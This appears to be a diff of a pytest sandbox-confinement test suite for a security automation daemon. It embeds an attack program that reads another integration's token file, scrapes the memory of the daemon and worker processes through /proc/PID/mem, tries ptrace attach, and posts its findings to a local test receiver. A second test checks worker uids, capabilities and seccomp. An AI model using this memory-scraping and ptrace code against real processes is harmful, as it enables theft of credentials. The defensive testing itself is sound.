@@ -11,7 +11,7 @@ import os
 
 import pytest
 
-from conftest import exec_integration, exec_playbook, ssh_alert
+from conftest import INTEGRATION_NFT, SANITIZED, exec_integration, exec_playbook, notify_integration, ssh_alert
 
 TOKEN = "tok-" + "7f3a9c" * 8
 HEADER_SECRET = "hdr-" + "c0ffee" * 8
@@ -35,42 +35,54 @@ except OSError as e:
     tried.append(f"token_file: {e.strerror}")
 
 me = os.getpid()
-for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
+try:
+    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+except OSError as e:
+    # A confined worker sees no /proc: try the daemon's pid, named by the test.
+    tried.append(f"proc: {e.strerror}")
+    pids = [@DAEMON_PID@]
+for pid in pids:
     if pid == me:
         continue
     try:
         with open(f"/proc/{pid}/cmdline", "rb") as f:
             cmd = f.read()
-    except OSError:
-        continue
+    except OSError as e:
+        cmd = b"bulwarkd" if pid == @DAEMON_PID@ else b""
+        tried.append(f"cmdline {pid}: {e.strerror}")
     if b"bulwarkd" not in cmd and b"connector-worker" not in cmd:
         continue
     try:
         maps = open(f"/proc/{pid}/maps").read().splitlines()
         mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
+        n = 0
+        for line in maps:
+            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+            if "rw" not in line.split()[1] or hi - lo > (64 << 20):
+                continue
+            try:
+                mem.seek(lo)
+                scan(mem.read(hi - lo), f"mem {pid}")
+                n += 1
+            except (OSError, OverflowError, ValueError):
+                pass
+        tried.append(f"mem {pid}: read {n} regions")
     except OSError as e:
         tried.append(f"mem {pid}: {e.strerror}")
-        continue
-    n = 0
-    for line in maps:
-        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
-        if "rw" not in line.split()[1] or hi - lo > (64 << 20):
-            continue
-        try:
-            mem.seek(lo)
-            scan(mem.read(hi - lo), f"mem {pid}")
-            n += 1
-        except (OSError, OverflowError, ValueError):
-            pass
-    tried.append(f"mem {pid}: read {n} regions")
-    libc = ctypes.CDLL(None, use_errno=True)
-    PTRACE_ATTACH = 16
-    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
-        tried.append(f"ptrace {pid}: attached")
+    # In a child: a system-call filter kills the caller of ptrace.
+    child = os.fork()
+    if child == 0:
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+            os._exit(1)
         os.waitpid(pid, 0x40000000)  # __WALL: the tracee's stop
         libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: let it run again
+        os._exit(0)
+    status = os.waitpid(child, 0)[1]
+    if os.WIFSIGNALED(status):
+        tried.append(f"ptrace {pid}: killed by signal {os.WTERMSIG(status)}")
     else:
-        tried.append(f"ptrace {pid}: {os.strerror(ctypes.get_errno())}")
+        tried.append(f"ptrace {pid}: {'attached' if os.WEXITSTATUS(status) == 0 else 'refused'}")
 import json, urllib.request
 body = json.dumps({"found": found, "tried": tried}).encode()
 urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:@PORT@/report", data=body), timeout=5)
@@ -94,15 +106,18 @@ def http_integration(tmp_path):
 
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8: connector workers are not confined yet")
+@pytest.mark.skipif(SANITIZED, reason="the sanitizer run has no sandbox (--no-sandbox)")
 def test_an_exec_program_cannot_read_another_integrations_secrets(make_daemon, tmp_path, receiver):
     token, edr = http_integration(tmp_path)
     prog = tmp_path / "attack"
-    prog.write_text(ATTACK.replace("@TOKEN@", TOKEN).replace("@HEADER@", HEADER_SECRET)
-                    .replace("@FILE@", str(token)).replace("@PORT@", str(receiver.port)))
+    attack = (ATTACK.replace("@TOKEN@", TOKEN).replace("@HEADER@", HEADER_SECRET)
+              .replace("@FILE@", str(token)).replace("@PORT@", str(receiver.port)))
+    prog.write_text(attack.replace("@DAEMON_PID@", "0"))
     os.chmod(prog, 0o755)
     integrations = edr + exec_integration(tmp_path, "prog", prog, call_timeout_ms=20000, writable=False)
     d = make_daemon(integrations=integrations, playbooks={"prog.yaml": exec_playbook("prog")}).start()
+    # Where it cannot list /proc, it tries the daemon by its pid.
+    prog.write_text(attack.replace("@DAEMON_PID@", str(d.proc.pid)))
     r = d.post_alert(ssh_alert())
     assert r.status_code == 202, r.text
     d.execution_of(r.json()["id"])
@@ -111,7 +126,67 @@ def test_an_exec_program_cannot_read_another_integrations_secrets(make_daemon, t
     report = json.loads(reports[0]["body"])
     # It really tried: it saw the daemon and the http integration's worker.
     tried = " ".join(report["tried"])
-    assert "token_file:" in tried and "mem " in tried, report
+    assert "token_file:" in tried and f"mem {d.proc.pid}" in tried, report
     assert report["found"] == [], f"secrets leaked to the exec program: {report}"
     assert "token_file: read" not in tried, report
     assert "attached" not in tried, report
+
+
+def proc_status(pid):
+    fields = {}
+    for line in open(f"/proc/{pid}/status"):
+        key, _, value = line.partition(":")
+        fields[key] = value.split()
+    return fields
+
+
+CAP_NET_ADMIN = 1 << 12
+
+
+@pytest.mark.skipif(SANITIZED, reason="the sanitizer run has no sandbox (--no-sandbox)")
+def test_each_worker_runs_as_its_own_uid_with_exactly_its_kinds_capabilities(make_daemon, tmp_path, receiver):
+    """Read from the kernel (/proc/PID/status), not from what the daemon says:
+    the uid and gid (real, effective, saved, file system), no supplementary
+    groups, the capability sets, no_new_privs, seccomp filter mode; and the
+    daemon itself not dumpable."""
+    token, edr = http_integration(tmp_path)
+    prog = tmp_path / "noop"
+    prog.write_text("#!/bin/sh\nexit 0\n")
+    os.chmod(prog, 0o755)
+    integrations = (INTEGRATION_NFT + edr + exec_integration(tmp_path, "prog", prog, writable=False)
+                    + notify_integration(receiver) + "    uid: 61100\n")
+    d = make_daemon(integrations=integrations).start()
+    status = d.get("/v1/status").json()
+    procs = {p["process"]: p for p in status["processes"]}
+    expected = {"fw": (60600, CAP_NET_ADMIN), "edr": (60601, 0), "prog": (60602, 0), "soc": (61100, 0)}
+    assert set(procs) == {"daemon"} | {f"worker:{n}" for n in expected}, procs
+    workers = {p["integration"]: p for p in status["processes"] if p["role"] == "worker"}
+    metrics = d.get("/metrics").text
+    for name, (uid, caps) in expected.items():
+        st = proc_status(workers[name]["pid"])
+        assert st["Uid"] == [str(uid)] * 4 and st["Gid"] == [str(uid)] * 4, (name, st["Uid"], st["Gid"])
+        assert st["Groups"] == [], (name, st["Groups"])
+        for field in ("CapEff", "CapPrm"):
+            assert int(st[field][0], 16) == caps, (name, field, st[field])
+        assert int(st["CapInh"][0], 16) == 0 and int(st["CapAmb"][0], 16) == 0, name
+        # The bounding set is empty: nothing it executes can gain a capability.
+        assert int(st["CapBnd"][0], 16) == 0, (name, "bounding set", st["CapBnd"])
+        assert st["NoNewPrivs"] == ["1"] and st["Seccomp"] == ["2"], (name, st["NoNewPrivs"], st["Seccomp"])
+        sandbox = workers[name]["sandbox"]
+        assert sandbox["confined"] and sandbox["seccomp"] and sandbox["uid"] == uid, (name, sandbox)
+        assert sandbox["caps"] == ("net_admin" if caps else "none"), (name, sandbox)
+        assert not sandbox["dumpable"], (name, sandbox)
+        assert (f'bulwark_process_sandbox_info{{process="worker:{name}",confined="1",landlock="1",seccomp="1",'
+                f'uid="{uid}",caps="{"net_admin" if caps else "none"}",dumpable="0"}} 1') in metrics, metrics
+    assert procs["daemon"]["pid"] == d.proc.pid and not procs["daemon"]["sandbox"]["dumpable"]
+    # Not for anyone: the probe says up or down, the confinement is an admin's.
+    assert "sandbox" not in d.session.get(d.url + "/readyz", timeout=5).text
+    # The daemon: not dumpable (its /proc files belong to root, ptrace needs
+    # CAP_SYS_PTRACE), no core files.
+    assert os.stat(f"/proc/{d.proc.pid}/mem").st_uid == 0
+    limits = open(f"/proc/{d.proc.pid}/limits").read()
+    assert any(line.startswith("Max core file size") and line.split()[4:6] == ["0", "0"]
+               for line in limits.splitlines()), limits
+    log = d.log.read_text()
+    for name in expected:
+        assert f'"event":"worker.confined","pid":{workers[name]["pid"]},"integration":"{name}"' in log
